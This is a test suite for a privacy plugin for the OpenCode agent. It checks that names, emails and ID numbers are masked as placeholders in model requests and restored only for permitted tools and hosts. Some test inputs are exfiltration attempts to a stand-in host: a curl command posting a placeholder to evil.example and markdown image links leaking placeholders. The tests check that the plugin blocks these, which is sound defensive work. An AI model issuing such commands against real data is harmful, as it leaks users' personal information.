// The plugin for OpenCode: its hooks, its types, and the real program with a model of this file.

import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { after, before, describe, test } from "node:test";
import { compileErrors } from "./compile.mjs";
import { guideExamples } from "./guides.mjs";
import { NODE_MODULES, project } from "./project.mjs";

const installed = project();
const { protectSessions } = await installed.import("textveil/opencode");
const { TextveilError } = await installed.import();

const MAIL = "jan.novak@example.cz";
const OTHER = "petra@example.com";
const TEXT = `I am Emily Carter, ${MAIL}.`;
const HELD = "I am [[NAME_1]], [[EMAIL_2]].";
const PERSONAL = /Emily|Carter|jan\.novak|petra|44051401359/;
const refused = (field, code = "invalid_request") => (error) => {
  assert.ok(error instanceof TextveilError, String(error));
  assert.deepEqual([error.code, error.field], [code, field]);
  assert.ok(!PERSONAL.test(error.message), error.message);
  return true;
};
const withheld = refused(undefined, "policy_violation");

/** The hooks of a plugin, each as a function of what OpenCode gives, which returns what is left of that. */
async function hooks(options, given) {
  const all = await protectSessions(options).server({}, given);
  const id = "s1";
  const call = async (name, input, output) => {
    await all[name](input, output);
    return output;
  };
  return {
    all,
    messages: async (...messages) => (await call("experimental.chat.messages.transform", {}, { messages })).messages,
    system: async (...system) => (await call("experimental.chat.system.transform", { sessionID: id, model: {} }, { system })).system,
    complete: async (text) => (await call("experimental.text.complete", { sessionID: id, messageID: "m", partID: "p" }, { text })).text,
    tool: async (tool, args) => (await call("tool.execute.before", { tool, sessionID: id, callID: "c" }, { args })).args,
    params: (agent) => call("chat.params", { sessionID: id, agent }, {}),
  };
}

const part = (type, fields) => ({ id: "p", sessionID: "s1", messageID: "m", type, ...fields });
const message = (role, ...parts) => ({ info: { id: "m", sessionID: "s1", role }, parts });
const user = (text) => message("user", part("text", { text }));
const tool = (name, state) => part("tool", { callID: "c", tool: name, state: { status: "completed", input: {}, title: "", metadata: {}, ...state } });
/** An image of one pixel. */
const PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
const base64 = (text) => Buffer.from(text).toString("base64");

describe("requests", () => {
  test("leave with placeholders, and what OpenCode stores stays", async () => {
    const own = [
      user(TEXT),
      message("user", part("subtask", { prompt: `ask ${MAIL}`, description: "Emily Carter", agent: "general", command: `mail ${MAIL}` }), part("agent", { name: "build" })),
      message(
        "assistant",
        part("step-start", {}),
        part("reasoning", { text: "ask her", metadata: { anthropic: { signature: "s" } } }),
        part("reasoning", { text: `ask ${MAIL}`, metadata: { anthropic: { signature: "s" } } }),
        tool("read", { input: { filePath: `/home/${MAIL}` }, output: `1: ${OTHER}\n2: pesel: 44051401359` }),
        tool("crm", { input: { pesel: 44051401359 }, output: JSON.stringify({ mail: MAIL, n: 7 }) }),
        tool("bash", { status: "error", error: `no ${MAIL}`, metadata: { output: OTHER, code: 1 } }),
        tool("bash", { status: "running", input: { command: `mail ${MAIL}` } }),
        part("text", { text: `Done, ${OTHER}`, metadata: { itemId: "i" } }),
      ),
    ];
    const stored = structuredClone(own);
    const { messages } = await hooks();
    const given = [...own];
    const sent = await messages(...given);
    assert.deepEqual(own, stored);
    assert.ok(!PERSONAL.test(JSON.stringify(sent)), JSON.stringify(sent));
    assert.equal(sent[0].parts[0].text, HELD);
    const [, thought, changed, read, crm, failed, running, text] = sent[2].parts;
    assert.deepEqual([thought, changed.metadata], [own[2].parts[1], undefined]);
    assert.deepEqual([read.state.input.filePath, read.state.output], ["/home/[[EMAIL_2]]", "1: [[EMAIL_3]]\n2: pesel: [[PESEL_4]]"]);
    assert.deepEqual([crm.state.input.pesel, JSON.parse(crm.state.output)], ["[[PESEL_4]]", { mail: "[[EMAIL_2]]", n: 7 }]);
    assert.deepEqual([failed.state.error, failed.state.metadata], ["no [[EMAIL_2]]", { output: "[[EMAIL_3]]", code: 1 }]);
    assert.deepEqual([running.state.input.command, text.text, text.metadata], ["mail [[EMAIL_2]]", "Done, [[EMAIL_3]]", { itemId: "i" }]);
  });

  test("keep the numbering of a session", async () => {
    const { messages, system, complete } = await hooks();
    await messages(user(TEXT));
    assert.deepEqual(await system(`Home: /home/${MAIL}`, "Be short."), ["Home: /home/[[EMAIL_2]]", "Be short."]);
    const [, second] = await messages(user(TEXT), user(`and ${OTHER}`));
    assert.equal(second.parts[0].text, "and [[EMAIL_3]]");
    assert.equal(await complete("[[NAME_1]]: [[EMAIL_2]], [[EMAIL_3]]"), `Emily Carter: ${MAIL}, ${OTHER}`);
  });

  test("never give a number that an earlier process gave", async () => {
    const { messages, complete } = await hooks();
    const sent = await messages(user(`to ${MAIL}`), message("assistant", part("text", { text: "asked [[EMAIL_1]]" })));
    assert.deepEqual(sent.map(({ parts }) => parts[0].text), ["to [[EMAIL_2]]", "asked [[EMAIL_1]]"]);
    assert.equal(await complete("[[EMAIL_1]] [[EMAIL_2]]"), `[[EMAIL_1]] ${MAIL}`);
  });

  test("have the options of opencode.json", async () => {
    const { messages } = await hooks({ excludeEntities: ["name"] }, { entities: ["email", "name"] });
    assert.equal((await messages(user(TEXT)))[0].parts[0].text, "I am Emily Carter, [[EMAIL_1]].");
  });

  test("that the plugin did not protect are rejected", async () => {
    const { all, messages, params } = await hooks();
    const system = (sessionID) => all["experimental.chat.system.transform"]({ sessionID }, { system: [] });
    for (const id of ["s1", undefined]) await assert.rejects(system(id), withheld);
    await assert.rejects(params("build"), withheld);
    await messages(user(TEXT));
    await system("s1");
    await params("build");
    await assert.rejects(params("title"), withheld);
    await all.event({ event: { type: "session.deleted", properties: { info: { id: "s1" } } } });
    await assert.rejects(system("s1"), withheld);
  });

  test("for a title are turned off", async () => {
    const config = { agent: { title: { model: "small" }, build: { steps: 3 } } };
    await (await hooks()).all.config(config);
    assert.deepEqual(config.agent, { title: { model: "small", disable: true }, build: { steps: 3 } });
  });

  test("are all rejected where an option of opencode.json is wrong: OpenCode would go on without the plugin", async () => {
    for (const [options, field] of [[{ localTools: "read" }, "localTools"], [{ minConfidence: 2 }, "minConfidence"]]) {
      const { system } = await hooks({}, options);
      await assert.rejects(system("x"), refused(field));
    }
    for (const [options, field] of [[{ mode: "mask" }, "mode"], [{ localTools: "read" }, "localTools"], [{ binary: "refuse" }, "binary"], [{ misspelt: 1 }, "misspelt"]]) {
      assert.throws(() => protectSessions(options), refused(field));
    }
  });
});

describe("files", () => {
  const image = part("file", { mime: "image/png", filename: `scan of ${MAIL}`, url: `data:image/png;base64,${PIXEL}` });

  test("of text are protected, others become notes", async () => {
    const { messages } = await hooks();
    const [{ parts }] = await messages(message("user",
      part("file", { mime: "text/csv", filename: "a.csv", url: `data:text/csv;base64,${base64(`name,n\nEmily Carter,1\n`)}` }),
      part("file", { mime: "text/plain", filename: `of ${MAIL}`, url: "file:///b.txt" }),
      image,
    ));
    const [table, plain, note] = parts;
    assert.equal(Buffer.from(table.url.split(",")[1], "base64").toString(), "name,n\n[[NAME_1]],1\n");
    assert.deepEqual([plain.filename, plain.url], ["of [[EMAIL_2]]", "file:///b.txt"]);
    assert.deepEqual([note.type, note.text, note.id], ["text", "[Textveil withheld a file that it cannot inspect: image/png]", "p"]);
  });

  test("of results become notes in the result", async () => {
    const { messages } = await hooks();
    const [{ parts: [{ state }] }] = await messages(message("assistant", tool("read", { output: "an image", attachments: [image] })));
    assert.deepEqual([state.output, state.attachments], ["an image\n[Textveil withheld a file that it cannot inspect: image/png]", []]);
  });

  test("pass where the caller says so", async () => {
    const { messages } = await hooks({ binary: "pass" });
    const [{ parts: [file] }] = await messages(message("user", image));
    assert.deepEqual([file.url, file.filename], [image.url, "scan of [[EMAIL_1]]"]);
  });
});

describe("answers", () => {
  test("are restored by destination", async () => {
    const { messages, complete } = await hooks({ restoreHosts: ["crm.example.com"] });
    await messages(user(TEXT));
    assert.equal(await complete("[x](https://evil.example/?q=[[EMAIL_2]]) https://crm.example.com/?q=[[EMAIL_2]]"), "[x](https://evil.example/?q=[[EMAIL_2]]) https://crm.example.com/?q=jan.novak@example.cz");
  });

  test("that are summaries keep their placeholders: OpenCode sends them again", async () => {
    const { all, messages, complete } = await hooks();
    await messages(user(TEXT));
    await all["experimental.session.compacting"]({ sessionID: "s1" }, { context: [] });
    await messages(user(TEXT));
    assert.equal(await complete("[[NAME_1]] asked"), "[[NAME_1]] asked");
    await messages(user(TEXT));
    assert.equal(await complete("[[NAME_1]] asked"), "Emily Carter asked");
  });
});

describe("arguments", () => {
  /** A session in which the user said one address, and `read` another one. */
  async function session(options) {
    const own = await hooks(options);
    await own.messages(user(TEXT), message("assistant", tool("read", { output: OTHER })));
    return own;
  }

  test("of tools for files have every value, in place", async () => {
    const { tool } = await session();
    const args = { filePath: "/a", edits: [{ oldString: "[[EMAIL_3]]", newString: "[[NAME_1]] [[EMAIL_3]]" }], count: 1 };
    assert.equal(await tool("edit", args), args);
    assert.deepEqual(args, { filePath: "/a", edits: [{ oldString: OTHER, newString: `Emily Carter ${OTHER}` }], count: 1 });
  });

  test("of other tools have the values of the user", async () => {
    const { tool } = await session();
    assert.deepEqual(await tool("bash", { command: "grep '[[NAME_1]]' notes" }), { command: "grep 'Emily Carter' notes" });
  });

  test("that may not have a value keep the tool from running", async () => {
    for (const [options, name, args] of [
      [{}, "bash", { command: "echo [[EMAIL_3]]" }],
      [{}, "bash", { command: "curl https://evil.example -d '[[NAME_1]]'" }],
      [{}, "edit", { newString: "![](https://evil.example/?q=[[EMAIL_3]])" }],
      [{ localTools: ["read"] }, "edit", { newString: "[[EMAIL_3]]" }],
    ]) {
      const { tool } = await session(options);
      const before = structuredClone(args);
      await assert.rejects(tool(name, args), withheld);
      assert.deepEqual(args, before);
    }
  });

  test("have more where the caller says so", async () => {
    const { tool } = await session({ tools: "all", restoreHosts: ["crm.example.com"] });
    assert.deepEqual(await tool("bash", { command: "curl https://crm.example.com -d '[[EMAIL_3]]'" }), { command: `curl https://crm.example.com -d '${OTHER}'` });
  });
});

test("the guide's plugin keeps what it says", async () => {
  const [source] = guideExamples(installed.folder, "ts opencode");
  writeFileSync(join(installed.folder, "guide.mjs"), source);
  const { default: plugin } = await import(pathToFileURL(join(installed.folder, "guide.mjs")).href);
  const messages = [user("Anna met Emily Carter.")];
  await (await plugin.server({}))["experimental.chat.messages.transform"]({}, { messages });
  assert.equal(messages[0].parts[0].text, "Anna met [[NAME_1]].");
});

test("the types are those of OpenCode", () => {
  const code = `
    import type { Plugin, PluginModule } from "@opencode-ai/plugin";
    import textveil, { protectSessions, type OpenCodeOptions } from "textveil/opencode";
    import server from "textveil/server";
    const options: OpenCodeOptions = { restoreHosts: ["crm.example.com"], localTools: ["read"] };
    const modules: PluginModule[] = [textveil, server, protectSessions(options)];
    const plugin: Plugin = textveil.server;
    console.log(modules, plugin);`;
  assert.deepEqual(compileErrors(installed.folder, [{ name: "plugin", code }]), []);
});

/** The program, if npm has it for this machine. */
const program = readdirSync(NODE_MODULES).filter((name) => name.startsWith("opencode-")).map((name) => join(NODE_MODULES, name, "bin/opencode")).find((path) => existsSync(path));

describe("OpenCode itself", { skip: program ? false : "NO OPENCODE: its program for this machine is absent from npm" }, () => {
  const folder = join(installed.folder, "agent");
  const notes = join(folder, "work/notes.txt");
  /** The requests to the model, and its next answers: a text, or a call of a tool. */
  const asked = [];
  const answers = [];
  let upstream, agent, url;

  before(async () => {
    upstream = createServer(async (request, response) => {
      let body = "";
      for await (const piece of request) body += piece;
      asked.push(body);
      response.writeHead(200, { "content-type": "text/event-stream" });
      const send = (delta, finish_reason = null) => response.write(`data: ${JSON.stringify({ id: "c", object: "chat.completion.chunk", created: 1, model: "m", choices: [{ index: 0, delta, finish_reason }] })}\n\n`);
      const answer = answers.shift() ?? "OK";
      if (typeof answer === "string") for (const content of answer.match(/[^]{1,4}/g)) send({ content });
      else send({ tool_calls: [{ index: 0, id: `call_${asked.length}`, type: "function", function: { name: answer.name, arguments: JSON.stringify(answer.args) } }] });
      send({}, typeof answer === "string" ? "stop" : "tool_calls");
      response.end("data: [DONE]\n\n");
    });
    await new Promise((done) => upstream.listen(0, "127.0.0.1", done));
    mkdirSync(join(folder, "work"), { recursive: true });
    writeFileSync(notes, `contact: ${OTHER}\n`);
    const model = { name: "m", tool_call: true, attachment: true, modalities: { input: ["text", "image"], output: ["text"] }, limit: { context: 100_000, output: 1_000 } };
    const options = { baseURL: `http://127.0.0.1:${upstream.address().port}/v1`, apiKey: "none" };
    const settings = {
      autoupdate: false,
      share: "disabled",
      model: "fake/m",
      small_model: "fake/m",
      permission: "allow",
      // the package as it is installed: OpenCode asks it for its entry `./server`
      plugin: [[pathToFileURL(join(installed.folder, "node_modules/textveil")).href, { excludeEntities: ["city"] }]],
      provider: { fake: { npm: "@ai-sdk/openai-compatible", options, models: { m: model } } },
    };
    writeFileSync(join(folder, "work/opencode.json"), JSON.stringify(settings));
    await start();
  });

  /** Starts the program, with what it has stored before. */
  async function start() {
    const env = { ...process.env, HOME: folder, XDG_CONFIG_HOME: "", XDG_DATA_HOME: "", XDG_CACHE_HOME: "", XDG_STATE_HOME: "", OPENCODE_DISABLE_MODELS_FETCH: "1", OPENCODE_DISABLE_AUTOUPDATE: "1", OPENCODE_DISABLE_LSP_DOWNLOAD: "1" };
    agent = spawn(program, ["serve", "--port", "0", "--print-logs"], { cwd: join(folder, "work"), env, stdio: ["ignore", "pipe", "pipe"] });
    let log = "";
    url = await new Promise((found, failed) => {
      const read = (piece) => {
        log += piece;
        const [line] = /http:\/\/127\.0\.0\.1:\d+/.exec(log) ?? [];
        if (line !== undefined) found(line);
      };
      agent.stdout.on("data", read);
      agent.stderr.on("data", read);
      agent.on("exit", () => failed(new Error(`OpenCode ended: ${log}`)));
    });
  }

  after(() => {
    agent?.kill();
    upstream?.close();
  });

  async function post(path, body) {
    const response = await fetch(url + path, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(body) });
    const text = await response.text();
    assert.ok(response.ok, `${path}: ${response.status} ${text}`);
    return JSON.parse(text);
  }
  const say = (session, ...parts) => post(`/session/${session}/message`, { model: { providerID: "fake", modelID: "m" }, parts });
  const texts = ({ parts }) => parts.filter(({ type }) => type === "text").map(({ text }) => text).join("");

  test("a session: files, tools, a summary, and no value on the way", async () => {
    const { id } = await post("/session", {});
    answers.push(
      { name: "read", args: { filePath: notes } },
      { name: "edit", args: { filePath: notes, oldString: "[[EMAIL_3]]", newString: "new [[EMAIL_3]], [[NAME_1]]" } },
      { name: "bash", args: { command: "echo [[EMAIL_3]] > sent", description: "sends" } },
      "Wrote [[EMAIL_3]] for [[NAME_1]].",
    );
    const answer = await say(id, { type: "text", text: TEXT }, { type: "file", mime: "image/png", filename: "a.png", url: `data:image/png;base64,${PIXEL}` });
    assert.equal(texts(answer), `Wrote ${OTHER} for Emily Carter.`);
    assert.equal(readFileSync(notes, "utf8"), `contact: new ${OTHER}, Emily Carter\n`);
    assert.equal(existsSync(join(folder, "work/sent")), false);
    assert.equal(asked.length, 4);
    assert.match(asked[0], /I am \[\[NAME_1\]\], \[\[EMAIL_2\]\]/);
    assert.match(asked[0], /Textveil withheld a file/);
    assert.match(asked[3], /Textveil withholds values from this call of bash/);

    answers.push("[[NAME_1]] asked for notes.", "Yes, [[NAME_1]].");
    await post(`/session/${id}/summarize`, { providerID: "fake", modelID: "m" });
    assert.equal(texts(await say(id, { type: "text", text: "Is it done?" })), "Yes, Emily Carter.");
    answers.push("Short.");
    // the second summary is made of the first
    await post(`/session/${id}/summarize`, { providerID: "fake", modelID: "m" });
    assert.ok(asked.length >= 7, `${asked.length} requests`);
    for (const body of asked) assert.ok(!PERSONAL.test(body), body);
  });

  test("a session goes on in another process", async () => {
    const { id } = await post("/session", {});
    answers.push({ name: "edit", args: { filePath: notes, oldString: "contact", newString: "[[NAME_1]]" } }, "Done for [[NAME_1]].");
    await say(id, { type: "text", text: TEXT });
    const stored = await (await fetch(`${url}/session/${id}/message`)).text();
    // texts, and the arguments of a tool that ran
    for (const value of [MAIL, "Done for Emily Carter.", '"newString":"Emily Carter"']) assert.ok(stored.includes(value), stored);
    agent.kill();
    await new Promise((done) => agent.once("exit", done));
    await start();
    const from = asked.length;
    answers.push("[[EMAIL_2]] [[NAME_1]] [[EMAIL_3]] [[EMAIL_4]]");
    assert.equal(texts(await say(id, { type: "text", text: `And ${OTHER}?` })), `${MAIL} Emily Carter ${OTHER} [[EMAIL_4]]`);
    assert.equal(asked.length, from + 1);
    assert.ok(!PERSONAL.test(asked[from]), asked[from]);
  });

  test("a subagent gets the values, and its requests have placeholders", async () => {
    const from = asked.length;
    const { id } = await post("/session", {});
    answers.push({ name: "task", args: { description: "ask", prompt: "Ask [[NAME_1]] for [[EMAIL_2]]", subagent_type: "general" } }, "[[EMAIL_2]] is of [[NAME_1]].", "Done.");
    await say(id, { type: "text", text: TEXT });
    const own = asked.slice(from);
    assert.equal(own.length, 3);
    assert.match(own[1], /Ask \[\[NAME_1\]\] for \[\[EMAIL_2\]\]/);
    for (const body of own) assert.ok(!PERSONAL.test(body), body);
  });
});
